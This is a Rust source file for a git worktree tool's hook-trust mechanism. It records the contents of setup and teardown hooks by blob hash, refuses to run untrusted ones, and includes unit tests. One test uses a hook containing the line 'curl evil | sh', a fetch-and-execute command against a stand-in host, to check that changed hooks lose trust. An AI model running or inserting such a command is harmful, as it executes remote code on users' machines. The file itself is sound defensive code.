//! Trust: which contents of the setup and teardown hooks may run, recorded by their git blob id in
//! `<common dir>/berth/trust.toml`. Every write is atomic under `trust.lock`; a file that does not
//! parse is an error that names it, and is never overwritten.

use std::fs;
use std::path::{Path, PathBuf};

use anyhow::{Context as _, Result};
use serde::{Deserialize, Serialize};

use super::read::Hook;
use crate::{clock, error, names, statefile};

/// The format of `trust.toml` this build reads and writes.
const TRUST_VERSION: u32 = 1;

/// `<common dir>/berth/trust.toml`.
pub fn trust_path(common_dir: &Path) -> PathBuf {
    common_dir.join(names::STATE_DIR).join(names::TRUST_FILE)
}

/// One trusted content of one hook.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Trusted {
    /// `setup` or `teardown`.
    pub hook: String,
    /// The content's git blob id, in hex.
    pub hash: String,
    /// Seconds since the Unix epoch.
    pub trusted: u64,
}

#[derive(Debug, Default, Serialize, Deserialize)]
struct TrustFile {
    #[serde(default)]
    version: u32,
    #[serde(default, rename = "trusted")]
    entries: Vec<Trusted>,
}

impl TrustFile {
    fn holds(&self, name: &str, hash: &str) -> bool {
        self.entries
            .iter()
            .any(|t| t.hook == name && t.hash == hash)
    }
}

/// Everything trusted so far, oldest first.
pub fn trusted(common_dir: &Path) -> Result<Vec<Trusted>> {
    Ok(read_trust(&trust_path(common_dir))?.entries)
}

/// Record the contents of the setup and teardown hooks among `hooks` as trusted; ports, seed and
/// local hooks need no trust and are skipped. Earlier contents stay trusted, so a worktree on an
/// older commit keeps running. Atomic under `trust.lock`; returns how many were new.
pub fn trust(common_dir: &Path, hooks: &[&Hook]) -> Result<usize> {
    let wanted: Vec<(&str, String)> = hooks
        .iter()
        .filter(|h| h.is_script() && !h.is_local())
        .map(|h| Ok((h.name, h.hash()?.to_string())))
        .collect::<Result<_>>()?;
    if wanted.is_empty() {
        return Ok(0);
    }
    let path = trust_path(common_dir);
    let dir = path.parent().unwrap_or(common_dir);
    fs::create_dir_all(dir).with_context(|| format!("cannot create {}", dir.display()))?;
    let lock_path = path.with_extension("lock");
    let _lock = crate::lockwait::lock(&lock_path, "the trust file")?;
    let mut file = read_trust(&path)?;
    let now = clock::now();
    let mut added = 0;
    for (name, hash) in wanted {
        if !file.holds(name, &hash) {
            file.entries.push(Trusted {
                hook: name.to_owned(),
                hash,
                trusted: now,
            });
            added += 1;
        }
    }
    if added > 0 {
        file.version = TRUST_VERSION;
        let text = toml::to_string(&file).context("cannot serialize the trust file")?;
        statefile::write_atomic(&path, text.as_bytes(), Some(0o644))?;
    }
    Ok(added)
}

/// Whether `hook` may run: a local hook always, ports and seed always (they are never run), a
/// setup or teardown hook when its exact content was trusted under its name.
pub fn is_trusted(common_dir: &Path, hook: &Hook) -> Result<bool> {
    if hook.is_local() || !hook.is_script() {
        return Ok(true);
    }
    let file = read_trust(&trust_path(common_dir))?;
    Ok(file.holds(hook.name, &hook.hash()?.to_string()))
}

/// Refuse at once, naming each untrusted hook and `git berth trust`, unless every hook in
/// `hooks` may run. Call it before creating anything.
pub fn ensure_trusted(common_dir: &Path, hooks: &[&Hook]) -> Result<()> {
    let mut untrusted = Vec::new();
    for hook in hooks {
        if !is_trusted(common_dir, hook)? {
            untrusted.push(hook.location());
        }
    }
    match untrusted.as_slice() {
        [] => Ok(()),
        [one] => Err(error::refuse_with_hint(
            format!("hook {one} is not trusted, so it was not run"),
            format!("read it, then run `{} trust` to let it run", names::TOOL),
        )),
        many => Err(error::refuse_with_hint(
            format!(
                "hooks {} are not trusted, so they were not run",
                many.join(" and ")
            ),
            format!(
                "read them, then run `{} trust` to let them run",
                names::TOOL
            ),
        )),
    }
}

fn read_trust(path: &Path) -> Result<TrustFile> {
    let Some(text) = statefile::read_text(path, "trust file")? else {
        return Ok(TrustFile::default());
    };
    statefile::parse(&text, TRUST_VERSION)
        .map_err(|reason| statefile::corrupt(path, "trust file", &reason))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::hooks::testing::{checkout_hook, scratch};
    use crate::hooks::{Source, local_dir};

    #[test]
    fn trust_round_trips_and_a_changed_hook_is_untrusted_again() {
        let common = scratch("trust");
        let setup = checkout_hook("setup", "#!/bin/sh\ncommand='make'\n");
        let teardown = checkout_hook("teardown", "#!/bin/sh\ncommand='down'\n");
        assert!(!is_trusted(&common, &setup).unwrap());
        let err = ensure_trusted(&common, &[&setup, &teardown]).unwrap_err();
        let refusal = err.downcast_ref::<error::Refusal>().unwrap();
        assert!(
            refusal.message.contains("/repo/.worktree-hooks/setup"),
            "{}",
            refusal.message
        );
        assert!(refusal.message.contains("/repo/.worktree-hooks/teardown"));
        assert!(refusal.hint.as_deref().unwrap().contains("git berth trust"));

        assert_eq!(trust(&common, &[&setup, &teardown]).unwrap(), 2);
        assert_eq!(
            trust(&common, &[&setup]).unwrap(),
            0,
            "trusting twice records nothing"
        );
        assert!(is_trusted(&common, &setup).unwrap());
        ensure_trusted(&common, &[&setup, &teardown]).unwrap();
        assert_eq!(trusted(&common).unwrap().len(), 2);

        let changed = checkout_hook("setup", "#!/bin/sh\ncommand='curl evil | sh'\n");
        assert!(!is_trusted(&common, &changed).unwrap());
        // The same bytes under another name are not trusted as that hook.
        let swapped = checkout_hook("teardown", "#!/bin/sh\ncommand='make'\n");
        assert!(!is_trusted(&common, &swapped).unwrap());
    }

    #[test]
    fn local_hooks_and_read_only_hooks_need_no_trust() {
        let common = scratch("trust-local");
        let local = Hook {
            name: names::HOOK_SETUP,
            content: b"anything".to_vec(),
            source: Source::Local(local_dir(&common).join("setup")),
        };
        assert!(is_trusted(&common, &local).unwrap());
        assert!(is_trusted(&common, &checkout_hook("ports", "20\n")).unwrap());
        assert_eq!(trust(&common, &[&local]).unwrap(), 0);
        assert!(!trust_path(&common).exists());
    }

    #[test]
    fn a_corrupt_trust_file_is_named_and_left_as_it_is() {
        let common = scratch("trust-corrupt");
        let path = trust_path(&common);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(&path, "this is = = not toml").unwrap();
        let hook = checkout_hook("setup", "x");
        for err in [
            is_trusted(&common, &hook).unwrap_err(),
            trust(&common, &[&hook]).unwrap_err(),
        ] {
            let refusal = err.downcast_ref::<error::Refusal>().unwrap();
            assert!(
                refusal.message.contains(&path.display().to_string())
                    && refusal.message.contains("line 1, column "),
                "{}",
                refusal.message
            );
        }
        assert_eq!(fs::read_to_string(&path).unwrap(), "this is = = not toml");
    }
}
